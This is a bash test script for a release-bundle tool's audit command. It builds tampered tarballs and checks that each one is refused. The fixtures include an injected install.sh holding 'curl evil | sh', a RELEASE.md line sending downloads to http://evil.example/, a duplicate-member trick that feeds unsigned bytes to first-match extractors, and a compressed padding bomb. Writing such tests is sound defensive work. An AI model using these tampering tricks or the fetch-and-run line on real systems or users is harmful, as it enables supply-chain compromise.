#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# audit passes a bundle only when every byte in it is vouched for: exactly
# the members the signed statements name, each once, RELEASE.md as it is
# regenerated from them, and the envelopes authenticated before anything is
# extracted, so a padded bundle never reaches the disk.  RELEASE.md tells
# auditors to use their own trusted copy of the key.
. "$(dirname "$0")/lib.sh"

mkdir -p "$T/r/src"
cat >"$T/r/src/Makefile" <<'MK'
all:
	mkdir -p out
	$(CROSS_COMPILE)gcc -march=$(MARCH) -mabi=$(MABI) -c hello.c -o out/hello.o
	printf 'notes\n' > out/notes.txt
MK
echo 'int hello(void) { return 42; }' >"$T/r/src/hello.c"
cat >"$T/r/recipe.json" <<'JSON'
{"name": "hello", "kind": "firmware", "version": "fwT1.r1.20260112", "source": "src",
 "toolchain": "riscv64-unknown-elf",
 "target": {"triple": "riscv64-unknown-elf", "march": "rv64imac", "mabi": "lp64"},
 "source_date_epoch": 1768176000, "steps": ["make"], "outputs": ["out/hello.o", "out/notes.txt"]}
JSON
"$LOCKSTEP" keygen -o "$T/k" >/dev/null 2>&1
expect_exit "release of a small recipe" 0 "$LOCKSTEP" release -q "$T/r/recipe.json" --key "$T/k" -o "$T/rel"
B="$T/rel/hello-fwT1.r1.20260112.tar"
expect_exit "audit of the untouched bundle passes" 0 "$LOCKSTEP" audit "$B" --pubkey "$T/k.pub" --no-rebuild

# edit OUT PY: OUT is the bundle rewritten by the Python body PY, which
# gets `members` (TarInfo, bytes) in order and may change it.
edit() {
	local out=$1 body=$2
	python3 - "$B" "$out" <<PY
import io, sys, tarfile
src = tarfile.open(sys.argv[1])
members = [(m, src.extractfile(m).read() if m.isfile() else None) for m in src.getmembers()]
def file(name, data):
    ti = tarfile.TarInfo(name); ti.size = len(data); ti.mtime = 1768176000; ti.mode = 0o644
    return (ti, data)
$body
with tarfile.open(sys.argv[2], "w", format=tarfile.PAX_FORMAT) as out:
    for m, data in members:
        if data is not None:
            m.size = len(data)
        out.addfile(m, io.BytesIO(data) if data is not None else None)
PY
}
audit() { "$LOCKSTEP" audit "$1" --pubkey "$T/k.pub" --no-rebuild; }

# An unsigned extra artifact beside the signed ones.
edit "$T/extra.tar" 'members.append(file("artifacts/fw-update.bin", b"\x7fELF evil"))'
expect_err "an extra unsigned member is refused, named" 1 \
	'extra.tar: member "artifacts/fw-update.bin": not named by the signed statements' audit "$T/extra.tar"
edit "$T/extra-top.tar" 'members.append(file("install.sh", b"curl evil | sh\n"))'
expect_err "an extra unsigned member at the top is refused, named" 1 \
	'member "install.sh": not named by the signed statements' audit "$T/extra-top.tar"
edit "$T/extra-dir.tar" 'ti = tarfile.TarInfo("docs"); ti.type = tarfile.DIRTYPE; ti.mode = 0o755; members.append((ti, None))'
expect_err "an extra directory is refused, named" 1 'member "docs/": not named by the signed statements' audit "$T/extra-dir.tar"

# A member the statements name, missing.
edit "$T/missing.tar" 'members = [x for x in members if x[0].name != "artifacts/notes.txt"]'
expect_err "a missing signed artifact is refused, named" 1 'member "artifacts/notes.txt": missing' audit "$T/missing.tar"

# RELEASE.md edited: another key id, another download link.
edit "$T/md.tar" 'members = [(m, d.replace(b"YOUR-TRUSTED-COPY", b"pubkey") if m.name == "RELEASE.md" else d) for m, d in members]'
expect_err "an edited RELEASE.md is refused" 1 'RELEASE.md: differs from the one regenerated from the signed provenance' audit "$T/md.tar"
edit "$T/md2.tar" 'members = [(m, d + b"\nDownload the update from http://evil.example/\n" if m.name == "RELEASE.md" else d) for m, d in members]'
expect_err "a RELEASE.md with a line appended is refused" 1 'RELEASE.md: differs' audit "$T/md2.tar"

# The same name twice, the signed copy last: a first-match reader (tar -xO,
# many unpackers) gets the other bytes, a last-match extractor the signed.
edit "$T/dup.tar" '
i = [m.name for m, d in members].index("artifacts/hello.o")
members.insert(i, file("artifacts/hello.o", b"\x7fELF not the signed one"))'
check "the duplicate bundle's first copy is the unsigned one" \
	bash -c "tar -xOf '$T/dup.tar' artifacts/hello.o 2>/dev/null | head -c 40 | grep -q 'not the signed one'"
expect_err "a member named twice (signed copy last) is refused" 1 \
	'member "artifacts/hello.o": appears more than once' audit "$T/dup.tar"
edit "$T/dup-env.tar" '
i = [m.name for m, d in members].index("provenance.intoto.json")
members.insert(i + 1, members[i])'
expect_err "an envelope named twice is refused" 1 'member "provenance.intoto.json": appears more than once' audit "$T/dup-env.tar"

# A big unsigned member in a small compressed bundle: refused from the
# listing and the signatures, before one byte of it is written.
python3 - "$B" "$T/big.tar.gz" <<'PY'
import gzip, io, sys, tarfile
class Zeros(io.RawIOBase):
    def __init__(self, n): self.left = n
    def readable(self): return True
    def readinto(self, b):
        n = min(len(b), self.left); b[:n] = bytes(n); self.left -= n; return n
size = 512 << 20
src = tarfile.open(sys.argv[1])
with gzip.open(sys.argv[2], "wb", compresslevel=1) as gz, tarfile.open(fileobj=gz, mode="w", format=tarfile.PAX_FORMAT) as out:
    ti = tarfile.TarInfo("artifacts/padding.bin"); ti.size = size; ti.mtime = 1768176000
    out.addfile(ti, Zeros(size))
    for m in src.getmembers():
        out.addfile(m, src.extractfile(m) if m.isfile() else None)
PY
check "the padded bundle is small" [ "$(stat -c %s "$T/big.tar.gz")" -lt $((4 << 20)) ]
mkdir -p "$T/atmp"
# The audit's work directory is watched the whole time it runs.
(
	max=0
	while [ ! -e "$T/audit-done" ]; do
		s=$(du -sk "$T/atmp" 2>/dev/null | cut -f1); [ "${s:-0}" -gt "$max" ] && max=$s
		echo "$max" >"$T/atmp-max"; sleep 0.05
	done
) &
watcher=$!
TMPDIR="$T/atmp" "$LOCKSTEP" audit "$T/big.tar.gz" --pubkey "$T/k.pub" --no-rebuild >"$T/out" 2>"$T/err"; rc=$?
touch "$T/audit-done"; wait $watcher
check "the padded bundle is refused (exit 1), naming the member" \
	bash -c "[ $rc -eq 1 ] && grep -q 'member \"artifacts/padding.bin\": not named by the signed statements' '$T/err'"
check "nothing of the padding reached the disk (work directory stayed under 1 MiB)" \
	[ "$(cat "$T/atmp-max")" -lt 1024 ]
check "the audit's work directory is gone" [ -z "$(ls -A "$T/atmp")" ]

# An envelope beyond the size cap is refused without being read whole.
edit "$T/huge-env.tar" 'members = [(m, d + b" " * (17 << 20) if m.name == "verification.intoto.json" else d) for m, d in members]'
expect_err "an oversized envelope is refused by the cap" 2 'verification.intoto.json": larger than' audit "$T/huge-env.tar"

# What RELEASE.md tells an auditor.
check "RELEASE.md tells auditors to use their own trusted copy of the key" \
	grep -q 'lockstep audit BUNDLE --pubkey YOUR-TRUSTED-COPY.pem' "$T/rel/RELEASE.md"
check "RELEASE.md does not tell auditors to use the bundled pubkey.pem" \
	bash -c "! grep -q -- '--pubkey pubkey.pem' '$T/rel/RELEASE.md'"
check "the RELEASE.md beside the bundle is the one inside it" \
	cmp -s "$T/rel/RELEASE.md" <(tar -xOf "$B" RELEASE.md)
